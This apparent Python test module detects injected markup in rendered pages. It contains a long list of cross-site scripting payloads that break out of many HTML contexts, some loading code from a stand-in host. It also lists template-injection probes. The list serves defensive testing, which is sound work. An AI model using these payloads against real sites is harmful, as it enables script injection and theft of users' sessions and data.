"""What in a page would run, load from elsewhere or change the page's frame: found by reading it as a browser does."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

# A word that stands in every planted text, so that it is known wherever it comes out.
MARK = "zq9w"
# What no screen of ours has; the content security policy forbids most of it as well.
_FOREIGN_TAGS = {"iframe", "object", "embed", "base", "style", "frame", "applet", "math", "marquee", "portal"}
_ADDRESSES = {
    "href",
    "background",
    "src",
    "action",
    "formaction",
    "poster",
    "data",
    "xlink:href",
    "hx-get",
    "hx-post",
}
_SCHEMES = {"", "http", "https", "tel", "mailto"}
_HERE = {"", "localhost"}

# Breaking out of text, of attributes in either quote, of a script, a style, a comment, a title and a text area.
PAYLOADS: tuple[str, ...] = (
    f"<script>{MARK}()</script>",
    f"</script><script>{MARK}()</script>",
    f"<ScRiPt src=//{MARK}.example></sCrIpT>",
    f"<img src=x onerror={MARK}()>",
    f"<img src=x oNeRrOr={MARK}()//",
    f'"><img src=x onerror={MARK}()>',
    f"'><img src=x onerror={MARK}()>",
    f'" onmouseover="{MARK}()" x="',
    f"' onfocus='{MARK}()' autofocus x='",
    f"` onfocus=`{MARK}()` autofocus x=`",
    f" onclick={MARK}() ",
    f"<svg onload={MARK}()>",
    f"<svg/onload={MARK}()>",
    f"<svg><script>{MARK}()</script></svg>",
    f"<svg><animate onbegin={MARK}() attributeName=x>",
    f"<svg><a xlink:href=javascript:{MARK}()><text>x</text></a></svg>",
    f"<math><mi xlink:href=javascript:{MARK}()>x</mi></math>",
    f"<body onload={MARK}()>",
    f"<iframe src=javascript:{MARK}()>",
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"<object data=javascript:{MARK}()>",
    f"<embed src=javascript:{MARK}()>",
    f"<a href=javascript:{MARK}()>x</a>",
    f"<a href='java\tscript:{MARK}()'>x</a>",
    f"<a href='&#106;avascript:{MARK}()'>x</a>",
    f"<form action=javascript:{MARK}()><button>x</button></form>",
    f"<button formaction=javascript:{MARK}()>x</button>",
    f"<base href=//{MARK}.example>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}.example'>",
    f"<link rel=stylesheet href=//{MARK}.example>",
    f"<style>@import'//{MARK}.example'</style>",
    f"<div style=background:url(//{MARK}.example)>x</div>",
    f"<details open ontoggle={MARK}()>",
    f"<video><source onerror={MARK}()></video>",
    f"<audio src=x onerror={MARK}()>",
    f"<input autofocus onfocus={MARK}()>",
    f"<select autofocus onfocus={MARK}()>",
    f"<textarea autofocus onfocus={MARK}()>",
    f"<marquee onstart={MARK}()>",
    f"<table background=javascript:{MARK}()>",
    f"</textarea><script>{MARK}()</script>",
    f"</title><script>{MARK}()</script>",
    f"</style><script>{MARK}()</script>",
    f"--><script>{MARK}()</script>",
    f"]]><script>{MARK}()</script>",
    f"<!--><script>{MARK}()</script>-->",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}()>'>",
    f"<template><img src=x onerror={MARK}()></template>",
    f"\\u003cimg src=x onerror={MARK}()\\u003e",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"%3Cscript%3E{MARK}()%3C/script%3E",
    f"＜script＞{MARK}()＜/script＞",
    f"<p hx-get=/{MARK} hx-trigger=load>x</p>",
    f"<p hx-on:load={MARK}()>x</p>",
    f"<p data-hx-post=/{MARK} data-hx-trigger=load>x</p>",
    f"<dialog open><form method=dialog><button autofocus onfocus={MARK}()></form></dialog>",
    f"javascript:{MARK}()",
    f"[x](javascript:{MARK}())",
    f"![x](x'onerror={MARK}())",
    f"<x id={MARK} tabindex=1 onfocus={MARK}()>",
)
# A template that were filled in would say 1337; a format string would say what class it stands in.
TEMPLATES: tuple[str, ...] = (
    "{{7*191}}",
    "{%print(7*191)%}",
    "${7*191}",
    "#{7*191}",
    "<%=7*191%>",
    "{0.__class__}",
    "{self.__class__.__mro__}",
    "{{config}}{{''.__class__.__mro__}}",
    "%s%d%(name)s",
    "{{lipsum.__globals__}}",
)
COMPUTED = ("1337", "<class ", "&lt;class ", "<Config", "&lt;Config", "__builtins__&#39;:")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        held = {name: value or "" for name, value in attrs}
        if tag in _FOREIGN_TAGS or MARK in tag:
            self.found.append(f"<{tag}>")
        if tag == "script" and "src" not in held:
            self.found.append("<script> without a file")
        if tag == "meta" and held.get("http-equiv", "").lower() in {"refresh", "set-cookie"}:
            self.found.append("<meta http-equiv>")
        self.found.extend(f"<{tag} {name}>" for name, value in held.items() if _is_alive(name, value.strip()))


def _is_alive(name: str, value: str) -> bool:
    if name.startswith(("on", "hx-on", "data-hx-")) or MARK in name or name in {"srcdoc", "style"}:
        return True
    if name == "hx-get" and MARK in urlsplit(value).path:
        return True
    return name in _ADDRESSES and not _leads_home(value)


def _leads_home(address: str) -> bool:
    plain = "".join(address.split())
    try:
        parts = urlsplit(plain)
    except ValueError:
        return False
    return parts.scheme in _SCHEMES and (parts.hostname or "") in _HERE


def live_markup(page: str) -> list[str]:
    """Everything in a page that is not ours."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.found
